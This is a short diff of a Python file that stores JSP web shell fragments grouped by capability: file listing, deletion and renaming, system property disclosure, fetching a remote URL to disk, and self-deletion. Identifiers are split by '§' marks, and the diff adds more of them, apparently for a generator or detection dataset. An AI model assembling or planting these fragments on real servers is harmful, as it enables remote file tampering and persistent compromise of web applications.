@@ -165,7 +165,7 @@ ASPX_CAPS: dict[str, list[str]] = {
 JSP_CAPS: dict[str, list[str]] = {
     "files": [
         'File[] fs=new File(d).listF§iles();for(File f:fs){out.println(f.getName()+"<br>");}\n'
-        'if("rm".equals(a)){new File(request.getParameter("f")).del§ete();}\n',
+        'if("rm".equals(a)){new File(request.getPara§meter("f")).del§ete();}\n',
         'for(File r:File.listRo§ots()){out.println(r);}\nif("mv".equals(a)){new File(f).rena§meTo(new File(to));}\n',
     ],
     "upload": [
@@ -190,7 +190,7 @@ JSP_CAPS: dict[str, list[str]] = {
         'out.println(System.getProperty("user.name")+System.getProperty("java.home")+application.getRealPath("/"));\n',
     ],
     "download": [
-        'URL u=new URL(request.getParameter("url"));InputStream is=u.openSt§ream();FileOutputStream fo=new FileOutputStream(to);\n',
+        'URL u=new URL(request.getParameter("url"));InputStream is=u.openSt§ream();FileOutputStream fo=new FileOutput§Stream(to);\n',
     ],
     "self": [
         "new File(application.getRealPath(request.getServletPath())).del§ete();\n",
